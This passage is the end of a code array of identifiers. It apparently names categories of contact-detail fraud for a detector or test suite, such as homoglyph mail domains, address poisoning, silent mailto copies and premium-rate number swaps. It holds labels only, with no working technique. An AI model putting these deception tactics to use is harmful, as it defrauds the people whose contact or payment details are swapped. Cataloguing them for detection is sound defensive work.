  abroadLineOnly, dialTargetSwap, domainInLocalPart, homoglyphMailDomain, emiAccountSwap, addressPoisoning, whatsappForeign, migrationDetour, impostorHandles, mailtoSilentCopy, premiumRateSwap
]
